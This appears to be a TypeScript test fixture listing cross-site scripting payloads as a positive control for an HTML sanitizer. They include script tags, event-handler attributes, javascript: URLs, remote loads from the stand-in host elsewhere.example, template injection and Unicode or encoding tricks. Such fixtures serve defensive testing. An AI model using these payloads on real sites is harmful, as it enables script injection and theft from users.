/**
 * Texts that run something where a page takes text for markup. Each calls `hostile`, asks `elsewhere.example`, or adds
 * an element that a page of ours never has.
 */

/** Markup: put into `innerHTML`, every one of these is caught (the positive control). */
export const MARKUP: readonly string[] = [
  "<script>hostile(1)</script>",
  "<SCRIPT SRC=//elsewhere.example/x.js></SCRIPT>",
  "<script>hostile(1)//",
  "</title><script>hostile(1)</script>",
  "</textarea><script>hostile(1)</script>",
  "</style><script>hostile(1)</script>",
  "--><script>hostile(1)</script>",
  "]]><script>hostile(1)</script>",
  "<![CDATA[<img src=x onerror=hostile(1)>]]><img src=x onerror=hostile(1)>",
  "<img src=x onerror=hostile(1)>",
  '"><img src=x onerror=hostile(1)>',
  "'><img src=x onerror=hostile(1)>",
  '<img/src="x"/onerror=hostile`1`>',
  "<IMG SRC=x OnErRoR=hostile(1)>",
  "<img src=x onerror=&#104;ostile(1)>",
  "<img src=//elsewhere.example/x.png>",
  "<img srcset=//elsewhere.example/x.png>",
  "<image src=x onerror=hostile(1)>",
  "<svg onload=hostile(1)>",
  "<svg/onload=hostile(1)//>",
  "<svg><script>hostile(1)</script></svg>",
  "<svg><animate onbegin=hostile(1) attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:hostile(1)><text>x</text></a></svg>",
  '<math><a xlink:href="javascript:hostile(1)">x</a></math>',
  "<a href=javascript:hostile(1)>点这里</a>",
  '<a href="java&#9;script:hostile(1)">点这里</a>',
  "<iframe src=javascript:hostile(1)></iframe>",
  '<iframe srcdoc="<script>parent.hostile(1)</script>">',
  "<object data=//elsewhere.example/x></object>",
  "<embed src=//elsewhere.example/x>",
  "<base href=//elsewhere.example/>",
  "<link rel=stylesheet href=//elsewhere.example/x.css>",
  "<style>@import '//elsewhere.example/x.css';</style>",
  '<meta http-equiv=refresh content="0;url=//elsewhere.example/">',
  "<body onload=hostile(1)><p onpointerenter=hostile(1)>",
  "<input autofocus onfocus=hostile(1)>",
  "<details open ontoggle=hostile(1)>",
  "<video><source onerror=hostile(1)></video>",
  "<audio src=x onerror=hostile(1)>",
  "<form action=javascript:hostile(1)><button>交</button></form>",
  "<button formaction=javascript:hostile(1)>交</button>",
  "<noscript><p title='</noscript><img src=x onerror=hostile(1)>'>",
  "<p style=\"background:url('//elsewhere.example/x.png')\">字</p>",
  `<img src=x onerror=hostile(1) title="${"长".repeat(120)}">`,
];

/** Harmless as HTML; they aim at templates, attributes, Markdown, escapes and the order of characters. */
export const OTHER: readonly string[] = [
  "javascript:hostile(1)",
  " java\tscript:hostile(1)",
  "data:text/html,<b>hostile</b>",
  "{{constructor.constructor('hostile(1)')()}}",
  "${hostile(1)} #{hostile(1)} <%= hostile(1) %>",
  "{__proto__} {constructor}",
  "[点这里](javascript:hostile(1)) ![x](//elsewhere.example/x.png)",
  "&lt;img src=x onerror=hostile(1)&gt;",
  "&#60;script&#62;hostile(1)&#60;/script&#62;",
  "\\u003cscript\\u003ehostile(1)\\u003c/script\\u003e",
  "+ADw-script+AD4-hostile(1)+ADw-/script+AD4-",
  "＜script＞hostile(1)＜/script＞",
  "‹img src=x onerror=hostile(1)›",
  "李\u202Eolitsoh\u202C四",
  "王\u200B\u2066五\u2069\u200F",
  "Z\u0301\u0302\u0303\u0304\u0305a\u0336l\u0337g\u0338o",
  "';hostile(1)//\";hostile(1)//`;hostile(1)//",
  '" autofocus onfocus=hostile(1) x="',
  "\uFEFF‮\u2028hostile(1)\u2029",
];

/** Everything, each text once. */
export const SCRIPTS: readonly string[] = [...MARKUP, ...OTHER];

/** A text far longer than any field was made for. */
export const VERY_LONG = `<img src=x onerror=hostile(1)>${"很长".repeat(2000)}`;
